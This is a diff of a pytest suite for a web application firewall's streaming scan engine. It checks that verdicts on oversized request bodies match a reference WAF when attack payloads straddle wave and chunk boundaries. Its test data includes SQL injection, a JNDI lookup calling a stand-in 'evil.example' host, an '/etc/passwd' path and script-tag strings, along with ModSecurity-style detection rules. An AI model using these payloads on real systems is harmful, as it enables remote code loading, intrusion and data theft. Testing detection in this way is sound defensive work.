@@ -2,13 +2,16 @@
 
 A body that unpacks past ``Batcher.OVERSIZE_THRESHOLD`` (16,384 B)
 leaves the batched path for the side worker and the stream engine
-(2,048-byte waves, automaton state carried between them).  Every verdict
-it gives has to be the one ``benchmark/reference/plainwaf.py`` gives for
-the same frame (attack flag, blocked flag, set of rule ids): both reroute
-kinds, JSON and urlencoded bodies, the payload mid-body, at the very
-tail, across a wave boundary and across a 64 KiB chunk boundary, and
-stretched over either by thousands of bytes that a rule's chain deletes.
-The reference shares no code with the program.
+(waves of 16,384 steps while that much is pending and of 2,048 for the
+rest, automaton state carried between them).  Every verdict it gives has
+to be the one ``benchmark/reference/plainwaf.py`` gives for the same
+frame (attack flag, blocked flag, set of rule ids): both reroute kinds,
+JSON and urlencoded bodies, the payload mid-body, at the very tail,
+across a wave boundary of every kind (narrow/narrow, wide/wide,
+wide/narrow) and across a 64 KiB chunk boundary, and stretched over each
+by thousands of bytes that a rule's chain deletes.  The reference shares
+no code with the program.  The wave plan itself is held, on the engine
+alone, to an all-narrow plan and to one unbroken scan.
 
 ROADMAP F1 is the named regression: the side lane used to confirm on the
 unpacked copy of the body, whose url-decoded segment the confirm twin
@@ -34,7 +37,8 @@ from harness.wire import encode_request                       # noqa: E402
 from reference import plainwaf                                # noqa: E402
 
 from ingress_plus_tpu.serve.batcher import Batcher            # noqa: E402
-from ingress_plus_tpu.serve.stream import CHUNK_L             # noqa: E402
+from ingress_plus_tpu.serve.stream import CHUNK_L, WIDE_L     # noqa: E402
+from ingress_plus_tpu.serve.unpack import unpack_body         # noqa: E402
 from ingress_plus_tpu.utils.trace import SIDE_STAGES          # noqa: E402
 
 THRESHOLD = Batcher.OVERSIZE_THRESHOLD
@@ -60,9 +64,11 @@ def lane():
     batcher.close()
 
 
-def build(size: int, ctype: str, payload: str, where: str) -> WireRequest:
+def build(size: int, ctype: str, payload: str, where,
+          straddle: bool = True) -> WireRequest:
     """`generators/body_post.py _body` with the payload's place chosen:
-    "mid", "tail", or a byte offset the payload has to straddle."""
+    "mid", "tail", or a byte offset of the body the payload has to
+    straddle (``straddle=False``: only to start near)."""
     rng = random.Random(size)
     if ctype == "json":
         enc, sep = body_post._json_escape, " "
@@ -85,13 +91,36 @@ def build(size: int, ctype: str, payload: str, where: str) -> WireRequest:
         cut = max(text.rfind(sep, 0, at), 0) if mark else at
     body = (head + text[:cut] + mark + text[cut:] + tail).encode()
     assert len(body) == size
-    if mark and not isinstance(where, str):
+    if mark and not isinstance(where, str) and straddle:
         start = len(head) + cut
         assert start < where < start + len(mark), "payload misses %d" % where
     return WireRequest(method="POST", uri="/api/v1/comments", headers={
         "host": "shop.example.com", "user-agent": "curl/8.4.0",
         "accept": "*/*", "content-length": str(size),
         "content-type": content_type}, body=body)
+
+
+def build_over(size: int, ctype: str, payload: str, target,
+               halves=None) -> WireRequest:
+    """`build` with the payload laid over byte ``target`` of the SCAN
+    STREAM (`unpack_body`: the body, a separator, its extracted or
+    url-decoded copy): where the target lies past the body, the copy's
+    payload straddles it (from the start of ``halves[0]`` to the end of
+    ``halves[1]``; default the payload whole).  "mid" and "tail" are
+    `build`'s."""
+    if isinstance(target, str) or target < size:
+        return build(size, ctype, payload, target)
+    first, last = (h.encode() for h in (halves or (payload, payload)))
+    where = target - size
+    for _ in range(8):
+        req = build(size, ctype, payload, where, straddle=False)
+        scanned = unpack_body(req.body, req.headers)
+        a, b = scanned.rfind(first), scanned.rfind(last)
+        assert size < a <= b, "no decoded copy of the payload"
+        if a < target < b + len(last):
+            return req
+        where += target - (a + b + len(last)) // 2
+    raise AssertionError("payload not laid over %d" % target)
 
 
 def served_and_reference(lane, wire_request: WireRequest, req_id: int = 7):
@@ -114,7 +143,12 @@ def served_and_reference(lane, wire_request: WireRequest, req_id: int = 7):
 # body + extracted strings; form: body + its url-decoded copy); raw: the
 # body itself is over it
 SIZES = {"unpack": 11_000, "raw": 21_000}
-PLACES = {"mid": "mid", "tail": "tail", "wave": 3 * CHUNK_L}
+# "wide": byte WIDE_L of the scan stream.  A 21,000 B body scans as
+# ~42,000 B = two wide waves and narrow ones: a wide/wide boundary,
+# inside the body.  An 11,000 B body scans as ~22,000 B = one wide wave
+# and narrow ones: a wide/narrow boundary, inside the body's copy
+PLACES = {"mid": "mid", "tail": "tail", "wave": 3 * CHUNK_L,
+          "wide": WIDE_L}
 
 
 @pytest.mark.parametrize("where", sorted(PLACES))
@@ -126,7 +160,7 @@ def test_side_lane_verdict_equals_the_reference(lane, kind, ctype, where):
         (sorted(PLACES).index(where) * 7 + len(ctype)) % len(attack_payloads())]
     before = dict(batcher.stats.oversized_requests)
     have, want = served_and_reference(
-        lane, build(SIZES[kind], ctype, payload, PLACES[where]))
+        lane, build_over(SIZES[kind], ctype, payload, PLACES[where]))
     assert batcher.stats.oversized_requests[kind] == before[kind] + 1
     assert want[0], "the reference calls %r no attack" % payload
     assert have == want
@@ -150,18 +184,26 @@ STRETCHED = {942270: "1' UNION%sSELECT card_no FROM payments--",
              932191: "${jndi%s:ldap://evil.example/a}"}
 
 
-@pytest.mark.parametrize("place", ["wave", "chunk"])
+@pytest.mark.parametrize("place", ["wave", "chunk", "wide_wide",
+                                   "wide_narrow"])
 @pytest.mark.parametrize("ctype", ["json", "form"])
 @pytest.mark.parametrize("rule_id", sorted(STRETCHED))
 def test_payload_stretched_by_deletable_bytes_over_a_boundary(
         lane, rule_id, ctype, place):
     """2,500 spaces (``+`` urlencoded) between a payload's two halves:
-    more than a whole wave of bytes the squash variants delete, laid
-    over a wave boundary and over a 64 KiB chunk boundary."""
+    more than a whole narrow wave of bytes the squash variants delete,
+    laid over a narrow/narrow boundary, a 64 KiB chunk boundary, a
+    wide/wide boundary (byte 16,384 of a ~42,000 B scan stream) and a
+    wide/narrow one (byte 16,384 of a ~22,000 B scan stream, in the
+    body's copy)."""
     size, at = {"wave": (21_000, 3 * CHUNK_L),
-                "chunk": (CHUNK + 6_000, CHUNK)}[place]
+                "chunk": (CHUNK + 6_000, CHUNK),
+                "wide_wide": (21_000, WIDE_L),
+                "wide_narrow": (11_000, WIDE_L)}[place]
+    a, b = STRETCHED[rule_id].split("%s")
     have, want = served_and_reference(
-        lane, build(size, ctype, STRETCHED[rule_id] % (" " * 2_500), at))
+        lane, build_over(size, ctype, STRETCHED[rule_id] % (" " * 2_500),
+                         at, halves=(a, b)))
     assert rule_id in want[2]
     assert have == want
 
@@ -211,10 +253,13 @@ def test_warm_leaves_no_wave_compile_for_the_first_oversized_request(lane):
 
     batcher, _dep = lane
     assert batcher.stream_engine.warmed
+    eng = batcher.stream_engine
     compiled = scan_bytes_jit._cache_size()
-    waves = batcher.stream_engine.waves
+    waves, steps = eng.waves, eng.wave_steps
     served_and_reference(lane, build(30_000, "form", SQLI, "mid"))
-    assert batcher.stream_engine.waves > waves
+    # ~60,000 B scanned: waves of both widths
+    assert (CHUNK_L * (eng.waves - waves) < eng.wave_steps - steps
+            < WIDE_L * (eng.waves - waves))
     assert scan_bytes_jit._cache_size() == compiled
 
 
@@ -261,7 +306,7 @@ COUNTERS = ('ipt_oversized_rerouted_total{kind="raw"}',
             'ipt_oversized_bytes_total{kind="raw"}',
             'ipt_oversized_bytes_total{kind="unpack"}',
             "ipt_stream_waves_total", "ipt_stream_wave_rows_total",
-            "ipt_stream_wave_bytes_total")
+            "ipt_stream_wave_bytes_total", "ipt_stream_wave_steps_total")
 
 
 @pytest.fixture(scope="module")
@@ -290,22 +335,178 @@ def test_side_lane_stage_is_on_metrics(lane, exposition, stage):
     assert exposition['ipt_stage_us_sum{stage="%s"}' % stage] > 0
 
 
+def planned_waves(pending: int):
+    """(wide, narrow) waves of one ``StreamEngine.scan`` call whose
+    longest row holds ``pending`` bytes: wide while at least WIDE_L are
+    pending, narrow for the rest."""
+    return pending // WIDE_L, -(-(pending % WIDE_L) // CHUNK_L)
+
+
 def test_wave_counters_count_live_rows_and_their_bytes(lane):
     """One benign JSON body: the scan stream (body + separator +
-    extracted copy) goes through as one sequence, so the waves are its
-    2,048-byte steps; a wave carries one live row per distinct variant,
-    identical ones scanned once, never a padding row."""
+    extracted copy) goes through as one sequence in one call, so the
+    waves are the plan's for its length (39,988 B: two wide, four
+    narrow, where all-narrow took twenty); a wave carries one live row
+    per distinct variant, identical ones scanned once, never a padding
+    row; the steps are the widths summed."""
     from ingress_plus_tpu.compiler.ruleset import VARIANTS
-    from ingress_plus_tpu.serve.unpack import unpack_body
 
     batcher, _dep = lane
     eng = batcher.stream_engine
-    w0, r0, b0 = eng.waves, eng.wave_rows, eng.wave_bytes
+    w0, r0, b0, s0 = eng.waves, eng.wave_rows, eng.wave_bytes, eng.wave_steps
     req = build(20_000, "json", "", "mid")
     served_and_reference(lane, req)
     scanned = unpack_body(req.body, req.headers)
     assert THRESHOLD < len(scanned) <= CHUNK
-    assert eng.waves - w0 == -(-len(scanned) // CHUNK_L)
+    wide, narrow = planned_waves(len(scanned))
+    assert (wide, narrow) == (2, 4)
+    assert eng.waves - w0 == wide + narrow
+    assert eng.wave_steps - s0 == wide * WIDE_L + narrow * CHUNK_L
+    assert len(scanned) <= eng.wave_steps - s0 < len(scanned) + CHUNK_L
     assert (eng.waves - w0 <= eng.wave_rows - r0
             <= len(VARIANTS) * (eng.waves - w0))
     assert len(scanned) <= eng.wave_bytes - b0 <= len(VARIANTS) * len(scanned)
+
+
+# ------------------------------------------------ the plan, engine alone
+
+@pytest.fixture(scope="module")
+def small_engine():
+    """A four-rule pack (few scan words: a 200 KB scan takes a second
+    on the CPU; the untransformed rule keeps variant 0, whose row is the
+    bytes fed) under a stream engine of its own."""
+    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
+    from ingress_plus_tpu.compiler.seclang import parse_seclang
+    from ingress_plus_tpu.models.pipeline import DetectionPipeline
+    from ingress_plus_tpu.serve.stream import StreamEngine
+
+    rules = """
+SecRule REQUEST_BODY "@rx (?i)union\\s+select" \
+    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
+SecRule REQUEST_BODY "@rx (?i)<script" \
+    "id:941100,phase:2,block,t:urlDecodeUni,t:htmlEntityDecode,severity:CRITICAL,tag:'attack-xss'"
+SecRule REQUEST_BODY "@rx (?i)unionselect" \
+    "id:942270,phase:2,block,t:removeWhitespace,severity:CRITICAL,tag:'attack-sqli'"
+SecRule REQUEST_BODY "@rx /etc/passwd" \
+    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
+"""
+    return StreamEngine(DetectionPipeline(
+        compile_ruleset(parse_seclang(rules)), mode="block"))
+
+
+# filler that holds no factor of the small pack.  "plain": no byte any
+# variant rewrites or deletes, so every variant's row is the body and a
+# wave boundary lies at the same byte of each; "mixed": escapes,
+# entities, split escapes and runs of deletable bytes, so the rows differ
+# in content and length and the short ones ride the longest one's waves
+FILLER = {"plain": [b"lorem", b"ipsum", b"dolor", b"0123", b"x"],
+          "mixed": [b"lorem", b" ", b"+", b"%20", b"&amp;", b"%u0041", b"\n",
+                    b"'", b"\\", b"x=1&y=", b"%4", b"&#x41;", b"&am", b"%u00"]}
+# one factor a variant each: raw, url-decoded, html-decoded, squashed
+PLANTS = [b"/etc/passwd", b"union%20select", b"&lt;script", b"un ion\tsel ect"]
+
+
+def random_body(rng: random.Random, size: int, mode: str, plant: bytes,
+                at: int) -> bytes:
+    """``size`` bytes of filler with ``plant`` laid over byte ``at``:
+    the only place a factor of the pack can match."""
+    parts, n = [], 0
+    while n < size + len(plant):
+        a = rng.choice(FILLER[mode]) * rng.choice((1, 1, 1, 2, 40))
+        parts.append(a)
+        n += len(a)
+    text = b"".join(parts)
+    start = max(0, min(at - len(plant) // 2, size - len(plant)))
+    return (text[:start] + plant + text[start:])[:size]
+
+
+def scanned_carry(engine, body: bytes):
+    """(variants, state, match) of one body fed as the side lane feeds
+    it: 64 KiB at a time through ``StreamEngine.scan``, then the flush."""
+    from ingress_plus_tpu.serve.normalize import Request
+
+    st = engine.begin(Request(method="POST", uri="/u", request_id="p",
+                              parsers_off=frozenset(
+                                  ("gzip", "base64", "json"))))
+    for i in range(0, len(body), CHUNK):
+        engine.scan(st.feed(body[i:i + CHUNK]))
+    engine.scan(st.flush())
+    return st.variants, st.state, st.match
+
+
+# (body bytes, the byte the plant lies over): every kind of boundary of
+# the plan for variant 0's row, which is the bytes fed.  (0, 0): drawn
+PLAN_CASES = [
+    (1, 0), (CHUNK_L - 1, 700), (CHUNK_L + 1, CHUNK_L),     # narrow only
+    (WIDE_L - 1, 7 * CHUNK_L),                  # the last narrow/narrow
+    (WIDE_L, WIDE_L),                           # one wide wave, its tail
+    (WIDE_L + 1, WIDE_L), (2 * WIDE_L - 1, WIDE_L),         # wide/narrow
+    (2 * WIDE_L + 3 * CHUNK_L + 7, WIDE_L),                 # wide/wide
+    (2 * WIDE_L + 3 * CHUNK_L + 7, 2 * WIDE_L),             # wide/narrow
+    (2 * WIDE_L + 3 * CHUNK_L + 7, 2 * WIDE_L + CHUNK_L),   # narrow/narrow
+    (CHUNK, 3 * WIDE_L),                        # four wide: the last two
+    (CHUNK + 1, CHUNK),                         # wide, then the next feed
+    (CHUNK + WIDE_L + 5, CHUNK + WIDE_L),       # second feed: wide/narrow
+    (3 * CHUNK - 9, 2 * CHUNK + 2 * WIDE_L),    # third feed: wide/wide
+    (200_000, 3 * CHUNK),                       # feed of wide / of narrow
+] + [(0, 0)] * 6
+UNBROKEN_L = 200_704        # one shape for every unbroken scan
+
+
+@pytest.mark.parametrize("plant", range(len(PLANTS)))
+@pytest.mark.parametrize("size,at", PLAN_CASES)
+def test_planned_waves_carry_what_narrow_waves_and_one_scan_carry(
+        small_engine, monkeypatch, size, at, plant, request):
+    """The plan changes how many steps one device program runs, never
+    what is scanned: ``state`` and ``match`` of every variant row after
+    the planned waves equal those after all-2,048 waves and those of ONE
+    unbroken ``scan_bytes`` call over the variant's whole stream, and
+    the body's one factor, laid over a boundary of the plan, is matched.
+    Named cases: plain filler (each variant's row is the body), every
+    kind of boundary.  Drawn cases: 1 B to 200 KB by the case's own
+    seed, mixed filler (the rows differ), the raw variant's factor over
+    a boundary drawn from the plan's."""
+    import numpy as np
+
+    from ingress_plus_tpu.ops.scan import pad_rows, scan_bytes_jit
+    from ingress_plus_tpu.serve import stream
+    from ingress_plus_tpu.serve.normalize import variant_chain
+
+    rng = random.Random(request.node.name)
+    if size:
+        mode, planted = "plain", PLANTS[plant]
+    else:
+        size = int(2 ** rng.uniform(0, 17.6))
+        feed = rng.randrange(0, size, CHUNK)
+        at = feed + rng.choice(
+            [0] + list(range(WIDE_L, min(CHUNK, size - feed), WIDE_L))
+            + list(range(CHUNK_L, min(CHUNK, size - feed), CHUNK_L)))
+        mode, planted = "mixed", PLANTS[0] if plant else b""
+    body = random_body(rng, size, mode, planted, at)
+    eng = small_engine
+    w0, s0 = eng.waves, eng.wave_steps
+    variants, state, match = scanned_carry(eng, body)
+    assert variants[0][0] == 0
+    waves, steps = eng.waves - w0, eng.wave_steps - s0
+    feeds = [min(CHUNK, size - i) for i in range(0, size, CHUNK)]
+    assert waves >= sum(sum(planned_waves(n)) for n in feeds)
+    assert steps >= size
+    if size >= WIDE_L:
+        assert steps > waves * CHUNK_L, "no wide wave launched"
+
+    with monkeypatch.context() as m:
+        m.setattr(stream, "wave_width", lambda pending: CHUNK_L)
+        n0, t0 = eng.waves, eng.wave_steps
+        _v, n_state, n_match = scanned_carry(eng, body)
+        assert eng.wave_steps - t0 == (eng.waves - n0) * CHUNK_L
+    assert np.array_equal(state, n_state)
+    assert np.array_equal(match, n_match)
+
+    rows = [variant_chain(body, v) for v, _sv, _src in variants]
+    tokens, lengths = pad_rows(rows + [b""] * (8 - len(rows)),
+                               max_len=UNBROKEN_L, round_to=UNBROKEN_L)
+    u_match, u_state = scan_bytes_jit(eng.pipeline.engine.tables.scan,
+                                      tokens, lengths)
+    assert np.array_equal(match, np.asarray(u_match)[:len(rows)])
+    assert np.array_equal(state, np.asarray(u_state)[:len(rows)])
+    assert match.any() == (planted in body and bool(planted))
